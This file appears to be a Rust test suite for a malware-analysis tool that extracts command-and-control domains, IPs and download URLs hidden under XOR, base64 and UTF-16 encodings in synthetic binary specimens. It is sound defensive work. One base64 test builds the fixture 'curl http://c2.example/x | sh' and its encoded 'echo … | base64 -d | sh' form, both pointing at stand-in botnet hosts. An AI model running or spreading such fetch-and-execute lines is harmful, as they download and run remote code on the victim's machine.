//! Observables under encodings.

use super::{Finds, Source, runs, scan_text, search_base64, search_xor};
use crate::specimen::{Specimen, hidden, noise};
use ::base64::Engine;
use ukai_model::StringEncoding;

fn values(finds: &Finds) -> Vec<&str> {
    finds.list.iter().map(|it| it.observable.value.as_str()).collect()
}

fn under_xor(bytes: &[u8]) -> Finds {
    let mut finds = Finds::new(100);
    search_xor(bytes, &mut finds);
    finds
}

const HIDDEN: [&str; 5] = [
    "cnc.botnet.example",
    "192.0.2.7:48101",
    "198.51.100.9",
    "t.me",
    "http://dl.example/bins/mips",
];
const FOUND: [&str; 6] = [
    "cnc.botnet.example",
    "192.0.2.7:48101",
    "192.0.2.7",
    "198.51.100.9",
    "http://dl.example/bins/mips",
    "dl.example",
];

#[test]
fn a_table_is_read_under_every_key() {
    for key in 1..=255 {
        let mut table = noise(1000, u64::from(key));
        table.extend(hidden("first", key));
        table.push(0);
        let place = table.len() as u64;
        for text in HIDDEN {
            table.extend(hidden(text, key));
            table.push(0);
        }
        table.extend(noise(1000, 1000 + u64::from(key)));
        let finds = under_xor(&table);
        let values = values(&finds);
        for value in &values {
            assert!(FOUND.contains(value), "key {key:#x}: {value}");
        }
        for expected in FOUND {
            // A zero near either end is an end or the key's character: no telling.
            let carrier = HIDDEN.iter().find(|text| text.contains(expected)).expect("hidden");
            let text = carrier.as_bytes();
            let ambiguous = text[..2].contains(&key) || text.last() == Some(&key);
            assert!(
                ambiguous || values.contains(&expected),
                "key {key:#x}: {expected} not in {values:?}"
            );
        }
        if let Some(first) = finds.list.iter().find(|it| it.observable.value == FOUND[0]) {
            assert_eq!((first.offset, &first.encoding), (place, &StringEncoding::Xor { key }));
            assert_eq!(first.method, "xor");
        }
    }
}

#[test]
fn a_key_that_is_a_letter_of_the_name_cuts_nothing_off() {
    // Key 0x66 is `f`: a plain zero may be an `f`, or the end of the C string.
    const NAMES: [&str; 3] = ["five.offline.example", "second.offline.example", "198.51.100.77"];
    for key in [0x22, 0x54, 0x66, 0x37, 0xa5] {
        let mut table = vec![0];
        for text in NAMES {
            table.extend(hidden(text, key));
            table.push(0);
        }
        let finds = under_xor(&table);
        let values = values(&finds);
        assert!(values.contains(&NAMES[1]), "key {key:#x}: {values:?}");
        assert!(values.iter().all(|value| NAMES.contains(value)), "key {key:#x}: {values:?}");
    }
}

#[test]
fn short_names_need_a_proved_key() {
    let alone = [noise(100, 1), vec![0], hidden("abc.ru", 0x22), vec![0]].concat();
    assert!(under_xor(&alone).list.is_empty());
    let proved = [alone, hidden("http://192.0.2.1/", 0x22)].concat();
    assert!(values(&under_xor(&proved)).contains(&"abc.ru"));
}

#[test]
fn readable_text_is_not_decoded_into_names() {
    let text =
        "1,2,3,4 10/20/30/40 1-2-3-4 lib/aa/locale/de include/sys/io.h and so on\n\0(%s)(%.*s'%s))\0".repeat(200);
    assert!(under_xor(text.as_bytes()).list.is_empty());
}

#[test]
fn random_bytes_give_nothing() {
    for seed in 0..8 {
        let finds = under_xor(&noise(500_000, seed));
        assert!(finds.list.is_empty(), "{:?}", values(&finds));
    }
}

#[test]
fn wide_strings_have_their_own_offsets() {
    let mut bytes = vec![1, 2, 3];
    for byte in b"at c2.example." {
        bytes.extend([*byte, 0]);
    }
    bytes.extend([1, 1]);
    let mut finds = Finds::new(10);
    for run in runs(&bytes) {
        let source =
            Source { encoding: StringEncoding::Utf16le, stride: 2, ..Source::plain(run.at, None) };
        scan_text(&run.text(&bytes), &source, &mut finds);
    }
    assert_eq!(values(&finds), ["c2.example"]);
    assert_eq!(finds.list[0].offset, 9);
}

fn under_base64(bytes: &[u8]) -> Finds {
    let mut finds = Finds::new(100);
    search_base64(bytes, None, &mut finds);
    finds
}

#[test]
fn base64_is_read_also_in_layers_and_lines() {
    let encode = |text: &[u8]| ::base64::engine::general_purpose::STANDARD.encode(text);
    let url = b"curl http://c2.example/x | sh";
    let once = encode(url);
    let finds = under_base64(format!("echo {once} | base64 -d | sh").as_bytes());
    assert_eq!(values(&finds), ["http://c2.example/x", "c2.example"]);
    assert_eq!((finds.list[0].offset, &finds.list[0].encoding), (5, &StringEncoding::Base64));
    assert_eq!(
        values(&under_base64(encode(once.as_bytes()).as_bytes())),
        ["http://c2.example/x", "c2.example"]
    );

    let long = encode(
        &[b"# filler, so that there are some lines of text here ".repeat(4), url.to_vec()].concat(),
    );
    let lines: Vec<&str> =
        long.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).expect("ASCII")).collect();
    assert_eq!(
        values(&under_base64(lines.join("\r\n").as_bytes())),
        ["http://c2.example/x", "c2.example"]
    );
}

#[test]
fn the_number_of_finds_is_limited() {
    let text: Vec<String> = (0..500).map(|number| format!("n{number}.example")).collect();
    let text = text.join(" ");
    let mut finds = Finds::new(100);
    scan_text(text.as_bytes(), &Source::plain(0, None), &mut finds);
    assert_eq!(finds.list.len(), 100);
    assert!(finds.overflown);
}

#[test]
fn a_specimen_gives_its_list() {
    let specimen = Specimen::mips(
        [b"connecting to %s\x00192.0.2.55\0".to_vec(), hidden("update.c2.example", 0x22)].concat(),
    );
    let bytes = specimen.build();
    let mut finds = under_xor(&bytes);
    for run in runs(&bytes) {
        scan_text(&run.text(&bytes), &Source::plain(run.at, None), &mut finds);
    }
    assert_eq!(values(&finds), ["update.c2.example", "192.0.2.55"]);
}
